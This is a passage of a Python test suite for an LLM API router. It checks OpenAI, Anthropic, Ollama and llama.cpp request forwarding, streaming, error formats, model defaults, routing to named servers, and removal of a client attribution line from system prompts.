        tool_choice="auto",
    )
    calls = got.choices[0].message.tool_calls
    functions = [call.function for call in calls]
    assert [(f.name, json.loads(f.arguments)) for f in functions] == [*TOOL_CALLS]
    assert [call.id for call in calls] == ["call_0", "call_1"]
    assert got.choices[0].finish_reason == "tool_calls"
    assert last_request().json["tools"] == TOOLS


@each_way
@each_openai
def test_openai_streamed_tool_calls(sdk: Sdk, way: str) -> None:
    parts = sdk.call(
        sdk_router().url,
        "chat.completions.create",
        model=f"{way}-tools",
        messages=HELLO_MESSAGES,
        tools=TOOLS,
        stream=True,
    )
    gathered: dict[int, list[str]] = {}
    for fragment in (t for p in parts for t in p.choices[0].delta.tool_calls or ()):
        seen = gathered.setdefault(fragment.index, ["", "", ""])
        function = fragment.function
        for i, text in enumerate((fragment.id, function.name, function.arguments)):
            seen[i] += text or ""
    assert [(name, json.loads(text)) for _, name, text in gathered.values()] == [*TOOL_CALLS]
    assert [call_id for call_id, _, _ in gathered.values()] == ["call_0", "call_1"]
    assert parts[-1].choices[0].finish_reason == "tool_calls"


@each_way
@each_openai
def test_openai_structured_output(sdk: Sdk, way: str) -> None:
    shape = import_or_skip("pydantic").create_model("City", city=(str, ...), people=(int, ...))
    got = sdk.call(
        sdk_router().url,
        "chat.completions.parse",
        model=f"{way}-json",
        messages=HELLO_MESSAGES,
        response_format=shape,
    )
    assert got.choices[0].message.parsed.model_dump() == CITY
    asked = last_request().json["response_format"]
    assert asked["type"] == "json_schema"
    assert set(asked["json_schema"]["schema"]["properties"]) == set(CITY)


def image_part(kind: str) -> dict:
    """Make the part of an OpenAI message that is this picture."""
    url = f"data:image/{kind};base64,{base64.b64encode(PICTURES[kind]).decode()}"
    return {"type": "image_url", "image_url": {"url": url}}


@each_way
@each_openai
def test_openai_vision(sdk: Sdk, way: str) -> None:
    parts = [{"type": "text", "text": "hello"}, *map(image_part, PICTURES)]
    messages = [{"role": "user", "content": parts}]
    got = sdk.call(
        sdk_router().url, "chat.completions.create", model=f"{way}-talk", messages=messages
    )
    assert got.choices[0].message.content == HELLO_ANSWER
    assert last_request().json["messages"] == messages


@each_way
@each_openai
@whole_or_streamed
def test_openai_responses(sdk: Sdk, way: str, stream: bool) -> None:
    got = sdk.call(
        sdk_router().url,
        "responses.create",
        model=f"{way}-respond",
        input="hello",
        instructions="be kind",
        stream=stream,
    )
    if stream:
        assert [p.type for p in got][1:3] == ["response.output_text.delta"] * 2
        assert "".join(p.delta for p in got[1:3]) == HELLO_ANSWER
    assert (got[-1].response if stream else got).output_text == HELLO_ANSWER
    heard = last_request()
    assert heard.path == "/v1/responses"
    assert heard.json == {
        "model": "respond",
        "input": "hello",
        "stream": stream,
        "instructions": "be kind",
    }


@each_openai
def test_openai_gzip_that_nobody_asked_for(sdk: Sdk) -> None:
    got = sdk.call(
        sdk_router().url, "chat.completions.create", model="squeeze", messages=HELLO_MESSAGES
    )
    assert got.choices[0].message.content == HELLO_ANSWER


def test_openai_parallel_streams_are_not_mixed() -> None:
    create = OPENAI_SDKS[1].client(sdk_router().url).chat.completions.create
    said = [" ".join([f"n{number}"] * 20) for number in range(20)]

    async def one(text: str) -> str:
        stream = await create(**chat_document("map-talk", text, stream=True))
        return "".join([p.choices[0].delta.content or "" async for p in stream])

    async def everyone() -> list[str]:
        return await asyncio.gather(*map(one, said))

    assert run_in_loop(everyone()) == [f"You said: {text}" for text in said]


@each_way
@each_openai
@pytest.mark.parametrize("form", ("mp3", "wav"), ids=("length", "chunks"))
def test_openai_speech_is_exact(sdk: Sdk, way: str, form: str) -> None:
    got = sdk.call(
        sdk_router().url,
        "audio.speech.create",
        model=f"{way}-speak",
        voice="echo",
        input="hello",
        response_format=form,
    )
    assert got.content == SOUND
    assert got.response.headers["Content-Type"].startswith("audio/")


@each_openai
@whole_or_streamed
def test_openai_client_of_an_ollama_server(sdk: Sdk, stream: bool) -> None:
    got = sdk.call(
        native().url,
        "chat.completions.create",
        model="rule-llama3",
        messages=HELLO_MESSAGES,
        stream=stream,
    )
    choices = [p.choices[0] for p in (got if stream else [got])]
    said = [(c.delta if stream else c.message).content or "" for c in choices]
    assert "".join(said) == HELLO_ANSWER
    assert last_request(gpu()).path == "/v1/chat/completions"
    assert last_request(gpu()).model == "llama3"


# --- OpenAI: errors -------------------------------------------------------------------


@each_way
@each_openai
@whole_or_streamed
@pytest.mark.parametrize("status", SDK_ERRORS)
def test_openai_errors_of_the_server(sdk: Sdk, way: str, stream: bool, status: int) -> None:
    with pytest.raises(getattr(import_or_skip("openai"), SDK_ERRORS[status])) as caught:
        sdk.call(
            sdk_router().url,
            "chat.completions.create",
            model=f"{way}-error-{status}",
            messages=HELLO_MESSAGES,
            stream=stream,
        )
    error = caught.value
    assert error.status_code == status
    assert (error.type, error.code) == ("own", "own")
    assert error.response.content == encode_json(own_error(status))
    assert error.response.headers.get("Retry-After") == ("7" if status == 429 else None)


@each_way
@each_openai
@pytest.mark.parametrize("stream", (False,), ids=("whole",))
@pytest.mark.parametrize("name, status", (("mute", 504), ("nobody", 502)))
def test_openai_late_or_nobody(sdk: Sdk, way: str, stream: bool, name: str, status: int) -> None:
    with pytest.raises(import_or_skip("openai").InternalServerError) as caught:
        sdk.call(
            impatient_router().url,
            "chat.completions.create",
            model=f"{way}-{name}",
            messages=HELLO_MESSAGES,
            stream=stream,
        )
    assert caught.value.status_code == status
    check_openai_error(caught.value.response.json())
    if status == 504:
        assert "REQUEST_TIMEOUT" in caught.value.message
        assert "0.75" in caught.value.message
    elif way == "alias":
        assert "dead" in caught.value.message and "gone" in caught.value.message


@each_way
@each_openai
def test_openai_client_loses_its_patience(sdk: Sdk, way: str) -> None:
    hurried = dataclasses.replace(sdk, timeout=0.3)
    with pytest.raises(import_or_skip("openai").APITimeoutError):
        hurried.call(
            sdk_router().url,
            "chat.completions.create",
            model=f"{way}-mute",
            messages=HELLO_MESSAGES,
        )
    connection = sdk_upstream().connections[last_request().connection]
    assert wait_until(lambda: connection.closed), "the upstream still works for nobody"


@pytest.mark.parametrize("way", ("alias",))
@each_openai
@pytest.mark.parametrize("name", BREAKING_SCRIPTS)
def test_openai_stream_that_breaks(sdk: Sdk, way: str, name: str) -> None:
    parts: list[Any] = []
    with pytest.raises(import_or_skip("openai").APIError) as caught:
        sdk.call(
            impatient_router().url,
            "chat.completions.create",
            model=f"{way}-{name}",
            messages=HELLO_MESSAGES,
            stream=True,
            parts=parts,
        )
    assert "".join(p.choices[0].delta.content or "" for p in parts) == "One two "
    assert caught.value.body, "the error must arrive as an event"
    if name == "trouble":
        assert caught.value.message == "out of memory"


BROKEN_STREAMS: dict[str, list[Step]] = {
    "bad chunk-size": broken_stream(b"zz\r\n"),
    "bad end of a chunk": broken_stream(b"2\r\n: XX", CLOSE),
    "closed": broken_stream(CLOSE),
    "reset": broken_stream(DROP),
    "closed in a chunk": broken_stream(b"ff\r\ndata: {", CLOSE),
    "closed in the last chunk": broken_stream(b"0\r\n", CLOSE),
    "bytes fewer than the length": [
        response_head(200, [("Content-Type", "text/event-stream"), ("Content-Length", "9999")]),
        encode_event(completion_events({}, "Hello")[1]), CLOSE],
}  # fmt: skip


@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat", "/api/generate"])
@pytest.mark.parametrize("name", BROKEN_STREAMS)
def test_broken_stream_ends_in_an_error_of_its_dialect(name: str, path: str) -> None:
    model = default_upstream().add_script(BROKEN_STREAMS[name])
    got = request(
        default_router().port,
        "POST",
        path,
        {**EXAMPLE_REQUESTS[path], "model": model, "stream": True},
    )
    assert got.status == 200
    assert b"Hello" in got.content
    assert b"[DONE]" not in got.content and b'"done":true' not in got.content
    last = got.documents[-1]
    if path.startswith("/v1"):
        assert last["error"]["message"]
    else:
        assert isinstance(last["error"], str)


# --- OpenAI and Anthropic: other paths ------------------------------------------------


@each_way
@whole_or_streamed
def test_anthropic_messages(way: str, stream: bool) -> None:
    body = {"model": f"{way}-claude", "max_tokens": 9, "messages": HELLO_MESSAGES, "stream": stream}
    got = post_json("/v1/messages", body, X_Api_Key=CLIENT_KEY, Anthropic_Version="2023-06-01")
    assert got.status == 200
    assert got.content == (b"".join(CLAUDE_EVENTS) if stream else CLAUDE_MESSAGE)
    heard = last_request()
    assert heard.content == encode_json(body | {"model": "claude"})
    assert heard.get("X-Api-Key") == CLIENT_KEY
    assert heard.get("Anthropic-Version") == "2023-06-01"


OTHER_PATHS = (
    ("POST", "/v1/rerank", {"model": "rule-tiny", "query": "q", "documents": ["a"]}),
    ("POST", "/v1/not/yet/invented", {"zeta": 1, "model": "rule-tiny"}),
    ("POST", "/v1/rerank?api-version=2024-02-01&x=%2F%20", {"model": "rule-tiny"}),
    ("GET", "/v1/files?limit=3&after=a%26b", None),
    ("GET", "/v1/files/file-abc/content", None),
    ("DELETE", "/v1/files/file-abc", None),
    ("PUT", "/v1/thing", b"not JSON \x00\xff"),
)


@pytest.mark.parametrize("method, target, body", OTHER_PATHS)
def test_other_paths_reach_the_server(method: str, target: str, body: Any) -> None:
    got = request(sdk_router().port, method, target, body)
    assert got.status == 200
    sent = encode_json(body | {"model": "tiny"}) if isinstance(body, dict) else body or b""
    assert got.json["method"] == method
    assert got.json["target"] == target
    assert got.json["content"] == sent.decode("latin-1")


@pytest.mark.parametrize("path", ("/v1/chat/completions", "/v1/completions"))
def test_query_string_survives(path: str) -> None:
    target = f"{path}?api-version=2024-02-01&empty=&sign=%2B+%c3%a9"
    assert post_json(target, {**chat_document("rule-talk"), "prompt": "hi"}).status == 200
    assert last_request().target == target


# --- llama.cpp's own endpoints --------------------------------------------------------

LLAMA_CPP_TIMINGS = {"cache_n": 2, "prompt_n": 5, "predicted_n": 3}


def serve_llama_cpp(received: Received) -> Iterable[Step]:
    """Answer as llama.cpp does on its own endpoints, or with what arrived."""
    end = {"index": 0, "content": "", "stop": True, "timings": LLAMA_CPP_TIMINGS}
    words = ("<thi", "nk>Hm.</think>\n\n", "Forty", "-two.")
    if received.path == "/completion" and received.json.get("stream"):
        texts = [{"index": 0, "content": word, "stop": False} for word in words]
        return sse_response([*texts, end])
    if received.path == "/completion":
        return json_response({**end, "content": "".join(words)})
    if received.path == "/detokenize":
        return json_response({"content": "<think>a</think>b"})
    if received.method == "HEAD":
        return head_only(json_response({}))
    return json_response({"target": received.target, "content": received.content.decode()})


@functools.cache
def llama_cpp_upstreams() -> dict[str, Upstream]:
    """Return two of these: the default server, and the one to which rules lead."""
    return {name: Upstream(serve_llama_cpp) for name in ("default", "ruled")}


def llama_cpp_router() -> Router:
    """Return a router that knows the second server's models as `rule-X`."""
    urls = {name: upstream.url for name, upstream in llama_cpp_upstreams().items()}
    route = {"upstream": urls["ruled"], "model": r"\1"}
    table = {"routes": [{"match": {"model": "/^rule-(.+)$/"}, "route": route}]}
    return shared_router({"DEFAULT_UPSTREAM": urls["default"], "WEBUI_SECURITY": "NONE"}, table)


def ask_llama_cpp(server: str, method: str, target: str, body: Any = None) -> Received:
    """Ask the router; return what has arrived at this server, and at no other."""
    counts = {name: len(one.requests) for name, one in llama_cpp_upstreams().items()}
    assert request(llama_cpp_router().port, method, target, body).status == 200
    arrived = {n: one.requests[counts[n] :] for n, one in llama_cpp_upstreams().items()}
    assert [name for name, received in arrived.items() if received] == [server]
    return arrived[server][0]


LLAMA_CPP_POSTS = ("/completion", "/infill", "/tokenize", "/detokenize", "/apply-template")


@pytest.mark.parametrize("path", (*LLAMA_CPP_POSTS, "/props", "/slots/0?action=erase"))
def test_llama_cpp_goes_by_the_model_in_its_content(path: str) -> None:
    content = b'{ "n_predict" : 1e1, "model":"rule-m", "content": "hi" }'
    heard = ask_llama_cpp("ruled", "POST", path, content)
    assert (heard.target, heard.content) == (path, content.replace(b"rule-m", b"m"))


@pytest.mark.parametrize("path", (*LLAMA_CPP_POSTS, "/props", "/slots/0?action=erase"))
@pytest.mark.parametrize("content", (b'{"content": "hi", "prompt": "a"}', b"{}"))
def test_llama_cpp_without_a_model_is_the_default_server(path: str, content: bytes) -> None:
    heard = ask_llama_cpp("default", "POST", path, content)
    assert (heard.target, heard.content) == (path, content)


LLAMA_CPP_QUERIES = (
    ("GET", "/props?model=rule-m", "/props?model=m"),
    ("GET", "/slots?n=1&model=rule-org%2Fm+x&a=b", "/slots?n=1&model=org%2Fm%20x&a=b"),
    ("HEAD", "/props?model=rule-m&autoload=false", "/props?model=m&autoload=false"),
    ("POST", "/slots/0?action=save&model=rule-m", "/slots/0?action=save&model=m"),
    ("GET", "/props?xmodel=rule-m", None),
    ("GET", "/props?model=", None),
    ("GET", "/props?model=a%20b", None),
    ("GET", "/slots", None),
)


@pytest.mark.parametrize("method, target, sent", LLAMA_CPP_QUERIES)
def test_llama_cpp_goes_by_the_model_in_its_query(method: str, target: str, sent: Any) -> None:
    body = {"filename": "a"} if method == "POST" else None
    heard = ask_llama_cpp("ruled" if sent else "default", method, target, body)
    assert heard.target.endswith(sent or target)
    # Only the query names the model, and it still does alone.
    assert heard.json == body


@whole_or_streamed
def test_llama_cpp_completion_is_filtered_and_counted(stream: bool) -> None:
    model = f"rule-counted-{stream}"
    asked = {"model": model, "prompt": "six times seven", "stream": stream}
    got = post_json("/completion", asked, llama_cpp_router())
    documents = got.documents if stream else [got.json]
    assert "".join(document["content"] for document in documents) == "Forty-two."
    assert documents[-1]["timings"] == LLAMA_CPP_TIMINGS
    row = wait_for_row(llama_cpp_router(), model)
    assert (row["prompt_tokens"], row["completion_tokens"]) == (7, 3)
    assert (row["path"], row["tokens_estimated"], row["stream"]) == ("/completion", False, stream)


@pytest.mark.parametrize("target", ("?model=a&model=b", "?model=a&x&m%6Fdel=a", "?model=a"))
def test_llama_cpp_has_one_name_of_a_model(target: str) -> None:
    body = {"model": "b"} if target.count("=") == 1 else None
    counts = [len(upstream.requests) for upstream in llama_cpp_upstreams().values()]
    got = request(llama_cpp_router().port, "POST", f"/props{target}", body)
    assert (got.status, b"two names of a model" in got.content) == (400, True)
    assert [len(upstream.requests) for upstream in llama_cpp_upstreams().values()] == counts


def test_llama_cpp_detokenizes_what_it_was_given() -> None:
    got = post_json("/detokenize", {"tokens": [1]}, llama_cpp_router())
    assert got.json == {"content": "<think>a</think>b"}


# --- anything, to a server by name ----------------------------------------------------


@functools.cache
def echoing_upstream() -> Upstream:
    """Return a server that answers with thinking, as a stream if the content says so."""

    def script(received: Received) -> Iterable[Step]:
        if received.method == "HEAD":
            return head_only(json_response({}))
        if b'"stream":true' in received.content:
            return sse_response(completion_events({}, "<think>Hm.</think> Hi."))
        if "refused" in received.target:
            return json_response({"error": "stream_options is unknown"}, 400)
        return whole_response(b'{"content": "<think>a</think>b"}', kind="application/json")

    return Upstream(script)


def naming_router() -> Router:
    """Return a router that has this server under three names, and changes what it can."""
    box = {"url": f"{echoing_upstream().url}/prefix/v1", "api_key": "sk-of-the-box"}
    servers = {"box": box, "box two": box, "off": switched_off_url("dead")}
    routes = [{"match": {"model": "/^rule-(.+)$/"}, "route": {"upstream": "off"}}]
    settings = {
        "DEFAULT_UPSTREAM": switched_off_url("dead"), "WEBUI_SECURITY": "NONE",
        "DISABLE_THINKING": "true",
        "MODEL_MAP": '{"old": "new"}', "PING_INTERVAL": "0.1", "DEFAULT_MODEL": "other",
    }  # fmt: skip
    return shared_router(settings, {"servers": servers, "routes": routes})


NAMED_REQUESTS = (
    ("GET", "/upstream/box", "/", None),
    ("GET", "/upstream/box/", "/", None),
    ("GET", "/upstream/box/metrics?a=%2F", "/metrics?a=%2F", None),
    ("GET", "/upstream/box%20two/v1/models", "/v1/models", None),
    ("HEAD", "/upstream/box/health", "/health", None),
    ("PUT", "/upstream/box/a/b", "/a/b", b"\x00\xff"),
    ("PATCH", "/upstream/box/models/load", "/models/load", b"{"),
    ("DELETE", "/upstream/box/api/delete", "/api/delete", b'{"model":"old"}'),
    ("POST", "/upstream/box/v1/v1/x", "/v1/v1/x", b'{"model":"a","model":"b"}'),
    (
        "POST",
        "/upstream/box/v1/chat/completions",
        CHAT,
        b'{ "messages":[{"role":"user","content":"a"}] }',
    ),
    (
        "POST",
        "/upstream/box/v1/chat/completions",
        CHAT,
        b'{"model":"old","stream":true,"messages":[{"role":"user","content":"a"}]}',
    ),
    ("POST", "/upstream/box/api/chat", "/api/chat", b'{"model":"rule-x:latest","stream":true}'),
)


@pytest.mark.parametrize("method, target, wanted, body", NAMED_REQUESTS)
def test_what_goes_to_a_server_by_name_stays_as_it_is(
    method: str, target: str, wanted: str, body: Any
) -> None:
    count = len(echoing_upstream().requests)
    got = request(naming_router().port, method, target, body)
    (heard,) = echoing_upstream().requests[count:]
    assert (heard.method, heard.target, heard.content) == (method, f"/prefix{wanted}", body or b"")
    assert heard.get("Authorization") == "Bearer sk-of-the-box"
    assert got.status == 200
    if method != "HEAD":
        assert b"<think>" in got.content
    if body and b"stream" in body:
        assert got.events[-1] == b"[DONE]" and b": ping" not in got.content
        assert b"usage" not in heard.content
    else:
        assert got.get("X-SmolRouter-Route").startswith("upstream box")


def test_a_request_to_a_server_by_name_has_a_row() -> None:
    asked = {"model": "row-by-name", "stream": True, "messages": HELLO_MESSAGES}
    post_json("/upstream/box/v1/chat/completions", asked, naming_router())
    row = wait_for_row(naming_router(), "row-by-name")
    assert row["path"] == "/upstream/box/v1/chat/completions"
    assert (row["original_model"], row["mapped_model"], row["stream"]) == ("row-by-name",) * 2 + (
        True,
    )
    assert (row["status_code"], row["route"]) == (200, "upstream box")
    assert row["upstream_url"] == f"{echoing_upstream().url}/prefix"


def test_an_error_of_a_server_by_name_is_the_client_s() -> None:
    count = len(echoing_upstream().requests)
    got = post_json("/upstream/box/refused", {"model": "m"}, naming_router())
    assert (got.status, got.json) == (400, {"error": "stream_options is unknown"})
    assert len(echoing_upstream().requests) == count + 1
    assert post_json("/upstream/off/v1/x", {"model": "m"}, naming_router()).status == 502


def test_no_such_server_by_name() -> None:
    got = request(naming_router().port, "GET", "/upstream/bax/v1/models")
    assert got.status == 404
    assert "no such server 'bax'" in got.json["error"]["message"]
    assert "box, box two" in got.json["error"]["message"]
    assert request(naming_router().port, "GET", "/upstream").status == 404


def test_a_page_of_a_server_by_name_runs_no_script_as_the_router_s() -> None:
    page = [("Accept", "text/html")]
    got = request(naming_router().port, "GET", "/upstream/box/ui", fields=page)
    assert (got.status, got.get("Content-Security-Policy")) == (200, "sandbox allow-downloads")


# --- requests without a model ---------------------------------------------------------

WITHOUT_MODEL = {
    "missing": lambda document: document,
    "null": lambda document: {"model": None, **document},
    "empty": lambda document: {**document, "model": ""},
}


def ask_without_model(router: Router, path: str, stream: bool, kind: str = "missing") -> Response:
    """Send a request that names no model, in one of the ways to name none."""
    document = example_request(path, "", stream)
    del document["model"]
    return post_json(path, WITHOUT_MODEL[kind](document), router)


NEEDING_MODEL = [(path, stream) for path, stream in ALL_WAYS if "rerank" not in path]


@pytest.mark.parametrize("kind", WITHOUT_MODEL)
@pytest.mark.parametrize("path, stream", NEEDING_MODEL)
def test_the_only_model_is_meant(path: str, stream: bool, kind: str) -> None:
    got = ask_without_model(default_router(), path, stream, kind)
    assert got.status == 200
    sent = last_request(default_upstream())
    # The object has one `model` alone.
    pairs = json.JSONDecoder(object_pairs_hook=list).decode(sent.content.decode())
    assert [value for name, value in pairs if name == "model"] == ["tiny"]
    if path.startswith("/api/") and path != "/api/embeddings":
        documents = got.documents if stream else [got.json]
        assert {document["model"] for document in documents} == {"tiny"}


@pytest.mark.parametrize("path, stream", NEEDING_MODEL)
def test_default_model_is_meant(path: str, stream: bool) -> None:
    """It is a name like any other: here one that a rule knows."""
    router = sdk_router(DEFAULT_MODEL="rule-vectors" if "embed" in path else "rule-talk")
    assert ask_without_model(router, path, stream).status == 200
    wanted = "vectors" if "embed" in path else "talk"
    assert last_request().model == wanted


def test_a_model_that_was_not_named_is_all_that_is_added() -> None:
    router = sdk_router(DEFAULT_MODEL="rule-talk")
    content = b'{ "messages" : [{"role":"user","content":"hi"}], "seed" : 1e0 }'
    assert post_json(CHAT, content, router).status == 200
    assert last_request().content == content[:-1] + b',"model":"talk"}'


def test_row_says_why_a_model_is_meant() -> None:
    settings = {"DEFAULT_MODEL": "meant-by-default", "WEBUI_SECURITY": "NONE"}
    with router_and_upstream(**settings) as (router, upstream):
        assert ask_without_model(router, CHAT, False).status == 200
        detail = wait_for_detail(router, "meant-by-default")
        assert detail["original_model"] == "meant-by-default"
        assert detail["trail"][0]["rule"] == "DEFAULT_MODEL"
        assert upstream.requests[-1].model == "meant-by-default"


@pytest.mark.parametrize("path, stream", NEEDING_MODEL)
def test_one_of_several_models_has_to_be_named(path: str, stream: bool) -> None:
    with nothing_sent_upstream():
        got = ask_without_model(sdk_router(), path, stream)
    assert got.status == 400
    check_error(path, got)
    words = got.content.decode()
    assert "no model was named" in words
    assert words.count(", alias-") + words.count("such as alias-") == 5


@pytest.mark.parametrize("default", ("none", "http://127.0.0.1:9"))
def test_nobody_can_say_which_model_is_meant(default: str) -> None:
    with Router({"DEFAULT_UPSTREAM": default, "SERVERS": "http://127.0.0.1:9"}) as router:
        got = ask_without_model(router, CHAT, False)
        assert (got.status, "such as" in got.content.decode()) == (400, False)


def test_a_default_model_is_not_what_is_deleted_or_shown() -> None:
    router = sdk_router(DEFAULT_MODEL="rule-talk")
    with nothing_sent_upstream():
        assert request(router.port, "DELETE", "/api/delete", {}).status == 501
        for path in ("/api/show", "/api/pull"):
            got = post_json(path, {}, router)
            assert (got.status, "no model was named" in got.json["error"]) == (400, True)


# --- agents: errors -------------------------------------------------------------------

MESSAGES_ERRORS = {
    400: "invalid_request_error",
    401: "authentication_error",
    403: "permission_error",
    404: "not_found_error",
    405: "invalid_request_error",
    408: "timeout_error",
    413: "request_too_large",
    415: "invalid_request_error",
    429: "rate_limit_error",
    500: "api_error",
    501: "api_error",
    502: "api_error",
    503: "overloaded_error",
    504: "timeout_error",
    508: "api_error",
}
UNDER_MESSAGES = (ANTHROPIC, "/v1/messages/count_tokens", "/v1/messages/batches/b_1/cancel")


def check_messages_error_document(document: Any, status: int) -> None:
    """Assert that a document is an error as the clients of /v1/messages read it."""
    error = document["error"]
    assert (set(document), set(error)) == ({"type", "error"}, {"type", "message"})
    assert document["type"] == "error" and error["message"]
    assert error["type"] == MESSAGES_ERRORS[status]


def check_messages_error(got: Response, status: int) -> None:
    """Assert that an answer is such an error with this status."""
    assert got.status == status
    check_messages_error_document(got.json, status)


def test_every_error_under_messages_has_a_type_that_its_clients_know() -> None:
    classes = [smolrouter.RouterError]
    for one in classes:
        classes += one.__subclasses__()
    error = smolrouter.RouterError("no")
    for path, one in itertools.product(UNDER_MESSAGES, classes):
        error.status = one.status
        document = json.loads(smolrouter.OPENAI.encode_error(error, path))
        default = "invalid_request_error" if one.status < 500 else "api_error"
        kind = MESSAGES_ERRORS.get(one.status, default)
        assert document == {"type": "error", "error": {"type": kind, "message": "no"}}
    for path in ("/v1/messagesx", "/v1/chat/completions", "/api/logs", ""):
        check_openai_error(json.loads(smolrouter.OPENAI.encode_error(error, path)))


def test_errors_of_the_router_under_messages() -> None:
    routes = {
        "servers": {"dead": switched_off_url("dead"), "bench": sdk_upstream().url},
        "routes": [
            {"match": {"model": "nowhere"}, "route": {"upstream": "dead"}},
            {"match": {"model": "mute"}, "route": {"upstream": "bench"}},
        ],
    }
    settings = {
        "DEFAULT_UPSTREAM": "none",
        "API_SECURITY": "ALWAYS_AUTH",
        "JWT_SECRET": SECRET,
        "MAX_REQUEST_SIZE": 1000,
        "REQUEST_TIMEOUT": 0.2,
    }
    router = shared_router(settings, routes)
    token = smolrouter.encode_token(SECRET, "a", time.time(), 1.0)
    key = ("X-Api-Key", token)
    origin = ("Origin", "https://elsewhere.example")
    cases: list[tuple[int, str, Any, list[tuple[str, str]]]] = [
        (400, "POST", b"{", [key]),
        (400, "POST", [], [key]),
        (400, "POST", {"messages": []}, [key]),
        (401, "POST", {"model": "nowhere"}, []),
        (401, "POST", {"model": "nowhere"}, [("X-Api-Key", "a.b.c")]),
        (403, "POST", {"model": "nowhere"}, [key, origin]),
        (404, "POST", {"model": "unheard-of"}, [key]),
        (413, "POST", {"model": "m" * 2000}, [key]),
        (415, "POST", {"model": "nowhere"}, [key, ("Content-Encoding", "br")]),
        (502, "POST", {"model": "nowhere"}, [key]),
        (504, "POST", {"model": "mute"}, [key]),
        (405, "GET", None, [key]),
    ]
    for status, method, body, fields in cases:
        got = request(router.port, method, ANTHROPIC, body, fields)
        check_messages_error(got, status)
    got = request(router.port, "POST", UNDER_MESSAGES[1], {"model": "nowhere"}, [key])
    check_messages_error(got, 502)
    got = request(router.port, "POST", UNDER_MESSAGES[2], b"", [])
    check_messages_error(got, 401)
    got = request(router.port, "POST", "/messages", b"", [])
    check_messages_error(got, 401)


COUNT_TOKENS = "/v1/messages/count_tokens"


def test_count_tokens_at_a_server_without_it_is_a_404_that_its_clients_know() -> None:
    unexpected = "Unexpected endpoint or method. (POST /v1/messages/count_tokens)"
    cases = (
        (json_response({"detail": "Not Found"}, 404), "Not Found"),
        (whole_response(b"Method Not Allowed", 405), "Method Not Allowed"),
        (json_response({"error": {"message": "no", "type": "x"}}, 501), "no"),
        (json_response({"error": unexpected}), unexpected),
        (json_response({"error": unexpected}, fields=[("Content-Encoding", "identity")]), "Unexp"),
        (json_response({"fine": True}), "fine"),
        (whole_response(b"<html><title>Web UI</title>", kind="text/html"), "Web UI"),
        (whole_response(b"", 204), "does not know"),
    )
    for steps, words in cases:
        model = default_upstream().add_script(steps)
        got = request(default_router().port, "POST", COUNT_TOKENS, {"model": model, "messages": []})
        check_messages_error(got, 404)
        assert words in got.json["error"]["message"]
        assert wait_for_row(default_router(), model)["status_code"] == 404


def test_count_tokens_passes_what_else_a_server_says() -> None:
    cases = (
        (200, b'{ "input_tokens": 7 , "x": 1.0}'),
        (400, b'{"error": {"message": "bad tool"}}'),
        (429, b'{"error": "later"}'),
        (500, b"oh"),
    )
    for status, content in cases:
        steps = whole_response(content, status, kind="application/json")
        model = default_upstream().add_script(steps)
        got = request(default_router().port, "POST", COUNT_TOKENS, {"model": model, "messages": []})
        assert (got.status, got.content) == (status, content)


def test_count_tokens_asks_the_next_instance() -> None:
    first = json_response({"error": "Unexpected endpoint or method."})
    second = json_response({"input_tokens": 7})
    lacking = default_upstream().add_script(first)
    having = default_upstream().add_script(second)
    server = {"url": default_upstream().url, "discover": False}
    aliases = {
        "pair": {"instances": [f"one/{lacking}", f"one/{having}"]},
        "none": {"instances": [f"one/{lacking}", f"one/{lacking}-too"]},
    }
    default_upstream().scripts[f"{lacking}-too"] = default_upstream().scripts[lacking]
    router = shared_router({}, {"servers": {"one": server}, "aliases": aliases})
    body = {"model": "pair", "messages": []}
    got = request(router.port, "POST", COUNT_TOKENS, body)
    assert (got.status, got.json) == (200, {"input_tokens": 7})
    check_messages_error(request(router.port, "POST", COUNT_TOKENS, body | {"model": "none"}), 404)


# --- agents: the line of Claude Code --------------------------------------------------

BILLING = "x-anthropic-billing-header: cc_version=2.1.37.fbe; cc_entrypoint=cli; cch=%s;"
# What a client sends with one of these lines in it, as LINE, and what its server gets.
ATTRIBUTIONS = (
    (ANTHROPIC, '{"system": [ {"type":"text","text":"LINE"} ,\n {"text": "You \\u00e9", "n":1.0}]}',
     '{"system": [ {"text": "You \\u00e9", "n":1.0}]}'),
    (ANTHROPIC, '{"system":[{"type":"text","text":"LINE\\nYou \\u00e9\\n"},{"text":"b"}]}',
     '{"system":[{"type":"text","text":"You \\u00e9\\n"},{"text":"b"}]}'),
    (ANTHROPIC, '{"system":[{"text":"LINE\\n", "cache_control": {"type": "ephemeral"}}]}',
     '{"system":[]}'),
    (ANTHROPIC, '{"system":"LINE\\n\\nYou", "max_tokens": 1e3}',
     '{"system":"\\nYou", "max_tokens": 1e3}'),
    (ANTHROPIC, '{"system":"LINE"}', '{"system":""}'),
    (ANTHROPIC, '{"system":"LINE \\\\n\\"\\u0041 x\\u000ayes\\u0041"}', '{"system":"yes\\u0041"}'),
    (ANTHROPIC, '{"system":"\\u0078LINE\\nyou"}', '{"system":"\\u0078LINE\\nyou"}'),
    (ANTHROPIC, '{"system":["LINE","a"]}', '{"system":["a"]}'),
    (ANTHROPIC, '{"system":"a","system":"LINE\\nb"}', '{"system":"a","system":"b"}'),
    ("/v1/messages/count_tokens", '{"system":[{"text":"LINE"},{"text":"b"}]}',
     '{"system":[{"text":"b"}]}'),
    (CHAT, '{"messages":[{"role":"system","content":"LINE\\nYou"},{"role":"user","content":"u"}]}',
     '{"messages":[{"role":"system","content":"You"},{"role":"user","content":"u"}]}'),
    (CHAT, '{"messages":[{"role":"system","content":"LINE"}, {"role":"system","content":"b"}]}',
     '{"messages":[{"role":"system","content":"b"}]}'),
    (CHAT, '{"messages":[{"role":"system","content":[{"text":"LINE"},{"text":"b"}]}]}',
     '{"messages":[{"role":"system","content":[{"text":"b"}]}]}'),
    (CHAT, '{"messages":[{"content":[{"text":"LINE"}],"role":"developer"},{"role":"user"}]}',
     '{"messages":[{"role":"user"}]}'),
    (RESPONSES, '{"instructions":"LINE\\nYou","input":"h"}', '{"instructions":"You","input":"h"}'),
    (RESPONSES, '{"input":[{"role":"developer","content":[{"type":"x","text":"LINE\\nYou"}]}]}',
     '{"input":[{"role":"developer","content":[{"type":"x","text":"You"}]}]}'),
    # It is only looked for where it stands first, and not in what the user says.
    *((path, text, text) for path, text in (
        (ANTHROPIC, '{"system":[{"text":"You"},{"text":"LINE"}]}'),
        (ANTHROPIC, '{"system":"You\\nLINE"}'),
        (ANTHROPIC, '{"system":" LINE"}'),
        (ANTHROPIC, '{"system":[[]], "messages": [{"role": "user", "content": "LINE"}]}'),
        (ANTHROPIC, '{"system":{"text":{"a":"LINE"}}}'),
